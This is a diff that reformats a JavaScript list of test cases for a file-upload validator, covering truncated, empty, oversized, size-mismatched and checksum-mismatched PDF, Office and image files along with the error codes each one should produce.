-  { id: 'xlsx-truncated', category: 'truncated', declared: 'xlsx', bytes: async () => { const f = await xlsx(); return f.subarray(0, f.length - 30); }, expect: 'ZIP_MALFORMED' },
-  { id: 'png-truncated', category: 'truncated', declared: 'png', bytes: async () => png().subarray(0, 100), expect: 'IMAGE_MALFORMED' },
-  { id: 'jpeg-truncated', category: 'truncated', declared: 'jpeg', bytes: async () => jpeg().subarray(0, 120), expect: 'IMAGE_MALFORMED' },
-  { id: 'empty', category: 'empty', declared: 'pdf', bytes: async () => Buffer.alloc(0), declaredSize: () => 4096, expect: 'EMPTY' },
-  { id: 'empty-png', category: 'empty', declared: 'png', bytes: async () => Buffer.alloc(0), declaredSize: () => 1, expect: 'EMPTY' },
-  { id: 'size-larger-than-declared', category: 'size mismatch', declared: 'pdf', bytes: () => pdfLibPdf(), declaredSize: (n) => n - 1, expect: 'SIZE_MISMATCH' },
-  { id: 'size-smaller-than-declared', category: 'size mismatch', declared: 'pdf', bytes: () => pdfLibPdf(), declaredSize: (n) => n + 1, expect: 'SIZE_MISMATCH' },
-  { id: 'size-mismatch-png', category: 'size mismatch', declared: 'png', bytes: async () => png(), declaredSize: (n) => n * 2, expect: 'SIZE_MISMATCH' },
-  { id: 'size-over-the-limit', category: 'size mismatch', declared: 'pdf', bytes: async () => Buffer.concat([ascii('%PDF-1.7\n'), randomBytes(2 * MiB)]), declaredSize: () => MiB, maxBytes: MiB, expect: 'TOO_LARGE' },
+  {
+    id: 'pdf-truncated',
+    category: 'truncated',
+    declared: 'pdf',
+    bytes: async () => truncatedPdf(await pdfLibPdf()),
+    expect: 'PDF_TRUNCATED',
+  },
+  {
+    id: 'pdf-header-only',
+    category: 'truncated',
+    declared: 'pdf',
+    bytes: async () => ascii('%PDF-1.7\n'),
+    expect: 'PDF_TRUNCATED',
+  },
+  {
+    id: 'docx-truncated',
+    category: 'truncated',
+    declared: 'docx',
+    bytes: async () => (await docx()).subarray(0, 1500),
+    expect: 'ZIP_MALFORMED',
+  },
+  {
+    id: 'xlsx-truncated',
+    category: 'truncated',
+    declared: 'xlsx',
+    bytes: async () => {
+      const f = await xlsx();
+      return f.subarray(0, f.length - 30);
+    },
+    expect: 'ZIP_MALFORMED',
+  },
+  {
+    id: 'png-truncated',
+    category: 'truncated',
+    declared: 'png',
+    bytes: async () => png().subarray(0, 100),
+    expect: 'IMAGE_MALFORMED',
+  },
+  {
+    id: 'jpeg-truncated',
+    category: 'truncated',
+    declared: 'jpeg',
+    bytes: async () => jpeg().subarray(0, 120),
+    expect: 'IMAGE_MALFORMED',
+  },
+  {
+    id: 'empty',
+    category: 'empty',
+    declared: 'pdf',
+    bytes: async () => Buffer.alloc(0),
+    declaredSize: () => 4096,
+    expect: 'EMPTY',
+  },
+  {
+    id: 'empty-png',
+    category: 'empty',
+    declared: 'png',
+    bytes: async () => Buffer.alloc(0),
+    declaredSize: () => 1,
+    expect: 'EMPTY',
+  },
+  {
+    id: 'size-larger-than-declared',
+    category: 'size mismatch',
+    declared: 'pdf',
+    bytes: () => pdfLibPdf(),
+    declaredSize: (n) => n - 1,
+    expect: 'SIZE_MISMATCH',
+  },
+  {
+    id: 'size-smaller-than-declared',
+    category: 'size mismatch',
+    declared: 'pdf',
+    bytes: () => pdfLibPdf(),
+    declaredSize: (n) => n + 1,
+    expect: 'SIZE_MISMATCH',
+  },
+  {
+    id: 'size-mismatch-png',
+    category: 'size mismatch',
+    declared: 'png',
+    bytes: async () => png(),
+    declaredSize: (n) => n * 2,
+    expect: 'SIZE_MISMATCH',
+  },
+  {
+    id: 'size-over-the-limit',
+    category: 'size mismatch',
+    declared: 'pdf',
+    bytes: async () => Buffer.concat([ascii('%PDF-1.7\n'), randomBytes(2 * MiB)]),
+    declaredSize: () => MiB,
+    maxBytes: MiB,
+    expect: 'TOO_LARGE',
+  },
   {
     id: 'checksum-differs',
     category: 'size mismatch',
     declared: 'pdf',
     bytes: () => pdfLibPdf(),
-    sha256: (bytes) => createHash('sha256').update(Buffer.concat([bytes, ascii(' ')])).digest('hex'),
+    sha256: (bytes) =>
+      createHash('sha256')
+        .update(Buffer.concat([bytes, ascii(' ')]))
+        .digest('hex'),
     expect: 'CHECKSUM_MISMATCH',
   },
 ];
